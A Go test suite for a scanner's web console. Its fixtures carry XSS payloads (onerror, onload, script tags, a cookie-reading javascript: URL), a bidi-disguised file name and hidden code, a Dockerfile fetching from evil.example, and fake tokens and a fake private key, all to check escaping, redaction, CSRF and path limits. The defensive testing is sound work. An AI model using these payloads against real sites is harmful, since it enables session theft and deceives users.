package ui_test

import (
	"context"
	"crypto/rand"
	"encoding/json"
	"math/big"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"time"

	"scand/finding"
	"scand/finding/excerpt"
	"scand/store"
)

// Payloads a scanned tree or a scanner's output may carry.
const (
	imgPayload    = `"><img src=x onerror=alert(1)>`
	scriptPayload = `</script><script>alert(1)</script>`
	svgPayload    = `"><svg/onload=alert(1)>`
	jsURL         = `javascript:alert(document.cookie)`
	rtlName       = "invoice\u202Egnp.js"
)

func randomBase62(n int) string {
	const alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"
	b := make([]byte, n)
	for i := range b {
		k, err := rand.Int(rand.Reader, big.NewInt(int64(len(alphabet))))
		if err != nil {
			panic(err)
		}
		b[i] = alphabet[k.Int64()]
	}
	return string(b)
}

// hostileTree writes a tree whose file names and contents carry HTML,
// script, URL and bidi payloads, and that the built-in scanners report on;
// secrets are the secret values in it (a private key's body lines too),
// none of which may ever show whole.
func hostileTree(t *testing.T) (root string, secrets []string) {
	t.Helper()
	root = filepath.Join(t.TempDir(), "repo"+imgPayload)
	write := func(rel, content string) {
		p := filepath.Join(root, rel)
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte(content), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	write(filepath.Join(imgPayload, "Dockerfile"), "FROM "+svgPayload+":latest\nWORKDIR "+scriptPayload+"\nADD http://evil.example/"+svgPayload+" /opt/\n")
	secret := func() string {
		v := "ghp_" + randomBase62(36)
		secrets = append(secrets, v)
		return v
	}
	write(filepath.Join(rtlName, "settings.py"), `GITHUB_TOKEN = "`+secret()+`"`+"\n")
	write(jsURL+".env", "token = "+secret()+"\n")
	// Neighbouring lines of a finding: another secret, a key's body, a
	// bidi control in code and a line far past the cap.
	body := []string{randomBase62(64), randomBase62(64), randomBase62(40)}
	secrets = append(secrets, body...)
	write(imgPayload+".py", "# "+scriptPayload+"\napi = '"+secret()+"'\n"+"long = '"+strings.Repeat("<img src=x>", 100)+"'\n"+
		"access = \"user\u202E \u2066// admin\u2069 \u2066\"\n"+"backup = '"+secret()+"'\n"+
		"-----BEGIN RSA PRIVATE KEY-----\n"+strings.Join(body, "\n")+"\n-----END RSA PRIVATE KEY-----\n")
	return root, secrets
}

// TestHostileContentStaysText scans a real hostile tree through the
// console, adds hostile findings, verdicts, comments, keys, webhooks and
// notifications, and checks every page: the payloads appear as text and
// never as markup, links or script.
func TestHostileContentStaysText(t *testing.T) {
	tree, secrets := hostileTree(t)
	e := newEnv(t, envOptions{})
	c := e.client(t)
	c.get("/ui/scans")
	p := c.post("/ui/scans", url.Values{"target_path": {tree}, "scan_types": {"code", "iac"}})
	expect(t, p, 303, "start the hostile scan")
	scanID := strings.TrimPrefix(p.loc, "/ui/scans/")
	sc := e.waitScan(scanID, 90*time.Second)
	if sc.Status != store.StatusCompleted {
		t.Fatalf("hostile scan %s: %s", sc.Status, sc.Error)
	}
	real, err := e.st.FindingsByScan(context.Background(), scanID, store.FindingFilter{})
	if err != nil {
		t.Fatal(err)
	}
	var sawDocker, sawRTL, sawJS bool
	for _, f := range real {
		sawDocker = sawDocker || (f.Scanner == "dockerfile" && strings.Contains(f.Description, scriptPayload))
		sawRTL = sawRTL || strings.Contains(f.FilePath, "\u202E")
		sawJS = sawJS || strings.HasPrefix(f.FilePath, "javascript:")
	}
	if !sawDocker || !sawRTL || !sawJS {
		t.Fatalf("the scan did not report the hostile files (dockerfile %v, rtl %v, javascript: %v): %d findings", sawDocker, sawRTL, sawJS, len(real))
	}

	// Findings as a hostile scanner could report them: every field.
	hostile := func(label string) finding.Finding {
		return finding.Finding{Scanner: "bandit" + imgPayload, ScanType: "code", Severity: finding.High,
			Title: label + imgPayload + scriptPayload, Description: "See " + jsURL + " and " + svgPayload + "\n" + rtlName,
			FilePath: jsURL + "/" + rtlName + imgPayload, Line: 7, RuleID: "R" + scriptPayload, CWE: finding.CWE("CWE-79" + imgPayload),
			Fingerprint: fp(label), ComplianceTags: []string{"OWASP-A03" + svgPayload},
			Metadata: map[string]any{"suppressed_by": "scand:ignore " + imgPayload, "redacted": "ghp_" + scriptPayload, imgPayload: []any{jsURL, map[string]any{"k": scriptPayload}}}}
	}
	synth := e.seedScan(tree, []finding.Finding{hostile("h1"), hostile("h2")})
	ctx := context.Background()
	if status, body := e.apiDo("PATCH", "/api/v1/findings/"+fp("h1")+"/state", "", `{"status":"false_positive","note":"`+strings.ReplaceAll(imgPayload+scriptPayload, `"`, `\"`)+`","updated_by":"`+strings.ReplaceAll(svgPayload, `"`, `\"`)+`"}`); status != 200 {
		t.Fatalf("verdict: %d %s", status, body)
	}
	if status, body := e.apiDo("POST", "/api/v1/findings/"+fp("h1")+"/comments", "", `{"text":"`+strings.ReplaceAll(scriptPayload+jsURL+rtlName, `"`, `\"`)+`","author":"`+strings.ReplaceAll(imgPayload, `"`, `\"`)+`"}`); status != 201 {
		t.Fatalf("comment: %d %s", status, body)
	}
	if _, err := e.st.CreateNotification(ctx, store.Notification{Severity: "high", Title: imgPayload, Body: scriptPayload + rtlName, ScanID: synth.ID}); err != nil {
		t.Fatal(err)
	}
	wh, err := e.st.CreateWebhook(ctx, store.Webhook{ID: store.NewID(), Name: imgPayload + rtlName, URL: "https://r.example/?q=" + svgPayload, Secret: strings.Repeat("s", 32), EventFilter: []string{"scan.complete"}, Enabled: true})
	if err != nil {
		t.Fatal(err)
	}
	c.get("/ui/keys")
	expect(t, c.post("/ui/keys", url.Values{"name": {scriptPayload + imgPayload}, "scopes": {"read"}}), 201, "hostile key name")
	// The key ended dev mode; sign in with an admin key to see the rest.
	_, admin := e.issueKey("admin"+svgPayload, "read", "write", "admin")
	c = e.client(t)
	c.login(admin)

	pages := []string{
		"/ui/", "/ui/scans", "/ui/scans?target=" + url.QueryEscape(tree),
		"/ui/scans/" + scanID, "/ui/scans/" + synth.ID, "/ui/scans/" + synth.ID + "?q=" + url.QueryEscape(imgPayload),
		"/ui/scans/" + synth.ID + "?scanner=" + url.QueryEscape("bandit"+imgPayload) + "&compliance=" + url.QueryEscape(svgPayload),
		"/ui/findings/" + fp("h1"), "/ui/findings/" + fp("h1") + "?scan=" + url.QueryEscape(synth.ID),
		"/ui/findings/" + fp("h2") + "?scan=" + url.QueryEscape(imgPayload),
		"/ui/compare?a=" + scanID + "&b=" + synth.ID, "/ui/compare?a=" + scanID + "&b=" + synth.ID + "&show=fixed",
		"/ui/browse?path=" + url.QueryEscape(tree), "/ui/browse?path=" + url.QueryEscape(filepath.Join(tree, rtlName)),
		"/ui/notifications", "/ui/keys", "/ui/webhooks", "/ui/webhooks/" + wh.ID,
		"/ui/scans/" + url.PathEscape(imgPayload), "/ui/findings/" + url.PathEscape(scriptPayload),
		"/ui/login?next=" + url.QueryEscape(jsURL),
		"/ui/audit", "/ui/audit?actor=" + url.QueryEscape(imgPayload) + "&action=" + url.QueryEscape(scriptPayload),
		"/ui/scans/" + synth.ID + "/rules", "/ui/scans/" + scanID + "/rules",
	}
	for _, realFinding := range real {
		pages = append(pages, "/ui/findings/"+realFinding.Fingerprint+"?scan="+scanID)
	}
	rawBad := regexp.MustCompile(`(?i)<img|<svg/|<script>alert|\x{202E}`)
	seen := map[string]bool{}
	for _, path := range pages {
		p := c.get(path)
		if p.status >= 500 {
			t.Fatalf("%s: %d", path, p.status)
		}
		checkHeaders(t, path, p, false)
		toks := checkPageSafe(t, path, p.body)
		if m := rawBad.FindString(p.body); m != "" {
			i := strings.Index(p.body, m)
			t.Errorf("%s: raw payload %q in the page: %q", path, m, p.body[max(0, i-80):min(len(p.body), i+80)])
		}
		for _, v := range secrets {
			if strings.Contains(p.body, v) {
				t.Errorf("%s: a secret value shows whole", path)
			}
		}
		text := visibleText(toks)
		for _, payload := range []string{imgPayload, scriptPayload, svgPayload, jsURL, "[U+202E]"} {
			if strings.Contains(text, payload) {
				seen[payload] = true
			}
		}
		// A payload is never a link target: every href stays a console path.
		for _, tk := range toks {
			if href, ok := tk.attr("href"); ok && strings.Contains(strings.ToLower(href), "javascript:") && !strings.HasPrefix(href, "/ui/") {
				t.Errorf("%s: href %q", path, href)
			}
		}
	}
	for _, payload := range []string{imgPayload, scriptPayload, svgPayload, jsURL, "[U+202E]"} {
		if !seen[payload] {
			t.Errorf("payload %q never appeared as text: the test did not exercise it", payload)
		}
	}
	checkExcerpts(t, e, c, scanID, real, secrets, admin)
	// The downloaded HTML report (and the PDF printed from it) shows bidi
	// controls as the console does, from the console and from the API.
	for _, id := range []string{scanID, synth.ID} {
		for _, page := range []page{c.get("/ui/scans/" + id + "/report?format=html")} {
			if page.status != 200 || strings.Contains(page.body, "\u202E") || !strings.Contains(page.body, "invoice[U+202E]gnp.js") {
				t.Errorf("HTML report of %s: %d, raw U+202E %v", id, page.status, strings.Contains(page.body, "\u202E"))
			}
		}
		status, body := e.apiDo("GET", "/api/v1/scans/"+id+"/report", admin, "")
		if status != 200 || strings.Contains(body, "\u202E") || !strings.Contains(body, "[U+202E]") {
			t.Errorf("API HTML report of %s: %d, raw U+202E %v", id, status, strings.Contains(body, "\u202E"))
		}
	}
}

// TestHostileReadKeyCannotBrowseTheHost: with no scan roots the picker
// lists the whole host, so a read key gets 403 from the console and the
// API; with scan roots it browses inside them only.
func TestHostileReadKeyCannotBrowseTheHost(t *testing.T) {
	e := newEnv(t, envOptions{AuthRequired: true, EnvKey: "operator-key-for-tests"})
	_, read := e.issueKey("reader", "read")
	c := e.client(t)
	c.login(read)
	for _, path := range []string{"/etc", "/root", "/"} {
		p := c.get("/ui/browse?path=" + url.QueryEscape(path))
		if p.status != 403 || strings.Contains(p.body, "passwd") || strings.Contains(p.body, "hostname") {
			t.Errorf("console browse %s with a read key: %d", path, p.status)
		}
		if status, body := e.apiDo("GET", "/api/v1/dashboard/browse?path="+url.QueryEscape(path), read, ""); status != 403 || strings.Contains(body, "passwd") {
			t.Errorf("API browse %s with a read key: %d %.200s", path, status, body)
		}
	}
	admin := e.client(t)
	admin.login("operator-key-for-tests")
	if p := admin.get("/ui/browse?path=/etc"); p.status != 200 || !strings.Contains(p.body, "passwd") {
		t.Errorf("admin browse /etc: %d", p.status)
	}
	root := t.TempDir()
	os.WriteFile(filepath.Join(root, "inside.txt"), nil, 0o644)
	confined := newEnv(t, envOptions{AuthRequired: true, EnvKey: "operator-key-for-tests", ScanRoots: []string{root}})
	_, read = confined.issueKey("reader", "read")
	rc := confined.client(t)
	rc.login(read)
	if p := rc.get("/ui/browse?path=" + url.QueryEscape(root)); p.status != 200 || !strings.Contains(p.body, "inside.txt") {
		t.Errorf("read key inside the scan roots: %d", p.status)
	}
	if p := rc.get("/ui/browse?path=/etc"); p.status != 403 {
		t.Errorf("read key outside the scan roots: %d", p.status)
	}
}

// TestHostileNullOriginForms: a form posted from a sandboxed frame (Origin:
// null) is refused even with the session's own CSRF token, and so is any
// API write a page could make.
func TestHostileNullOriginForms(t *testing.T) {
	e := newEnv(t, envOptions{})
	c := e.client(t)
	c.get("/ui/keys")
	p := c.post("/ui/keys", url.Values{"name": {"from a sandboxed frame"}, "scopes": {"read"}}, "Origin", "null")
	if p.status != 403 {
		t.Fatalf("console form with Origin: null: %d", p.status)
	}
	c.get("/ui/webhooks")
	if p := c.post("/ui/webhooks", url.Values{"name": {"x"}, "url": {"http://127.0.0.1:9/x"}, "event_filter": {"scan.complete"}}, "Origin", "null"); p.status != 403 {
		t.Fatalf("webhook form with Origin: null: %d", p.status)
	}
	req, _ := http.NewRequest("POST", e.srv.URL+"/api/v1/webhooks", strings.NewReader(`{"name":"x","url":"http://127.0.0.1:9/x","event_filter":["scan.complete"]}`))
	req.Header.Set("Content-Type", "application/json")
	req.Header.Set("Origin", "null")
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != 403 {
		t.Fatalf("API write with Origin: null: %d", resp.StatusCode)
	}
	if status, body := e.apiDo("GET", "/api/v1/keys", "", ""); status != 200 || strings.Contains(body, "sandboxed") {
		t.Fatalf("keys after the refused form: %d %s", status, body)
	}
	if status, body := e.apiDo("GET", "/api/v1/webhooks", "", ""); status != 200 || strings.TrimSpace(body) != "[]" {
		t.Fatalf("webhooks after the refused requests: %d %s", status, body)
	}
}

// checkExcerpts: the real findings' pages, API answers and SARIF show
// the code kept around them (so the checks above read it), with secrets
// redacted, the key body masked, bidi controls visible and lines capped.
func checkExcerpts(t *testing.T, e *env, c *client, scanID string, real []store.FindingWithState, secrets []string, key string) {
	t.Helper()
	shown := 0
	for _, f := range real {
		if f.Scanner != "secrets" {
			continue
		}
		status, body := e.apiDo("GET", "/api/v1/findings/"+f.Fingerprint+"?scan="+scanID, key, "")
		if status != 200 {
			t.Fatalf("finding detail: %d %s", status, body)
		}
		var got store.FindingWithState
		if err := json.Unmarshal([]byte(body), &got); err != nil {
			t.Fatal(err)
		}
		ex := got.Excerpt
		if ex == nil {
			t.Errorf("%s:%d has no excerpt", f.FilePath, f.Line)
			continue
		}
		shown++
		// The finding's line, or for a private key the body line after its
		// header, shows the secret exactly as the finding redacts it.
		_, ok := ex.Text(f.Line)
		if redacted, _ := f.Metadata["redacted"].(string); !ok || redacted == "" || !strings.Contains(strings.Join(ex.Lines, "\n"), redacted) {
			t.Errorf("%s:%d: the excerpt %q does not show the finding's redacted form %q", f.FilePath, f.Line, ex.Lines, redacted)
		}
		for _, l := range ex.Lines {
			if len(l) > excerpt.MaxLineBytes || strings.ContainsAny(l, "\u202E\u2066\u2069") {
				t.Errorf("excerpt line not capped or with a raw bidi control: %q", l)
			}
		}
		page := c.get("/ui/findings/" + f.Fingerprint + "?scan=" + scanID)
		if !strings.Contains(page.body, `class="excerpt"`) || !strings.Contains(page.body, `class="hit"`) {
			t.Errorf("finding page of %s:%d shows no code", f.FilePath, f.Line)
		}
	}
	if shown < 3 {
		t.Fatalf("%d secrets findings with an excerpt, want at least 3", shown)
	}
	status, sarif := e.apiDo("GET", "/api/v1/scans/"+scanID+"/report?format=sarif", key, "")
	if status != 200 || !strings.Contains(sarif, `"contextRegion"`) || !strings.Contains(sarif, "[U+202E]") || !strings.Contains(sarif, "[U+2066]") {
		t.Fatalf("SARIF: %d, contextRegion %v", status, strings.Contains(sarif, `"contextRegion"`))
	}
	for _, v := range secrets {
		if strings.Contains(sarif, v) {
			t.Errorf("SARIF shows a secret value whole")
		}
	}
}
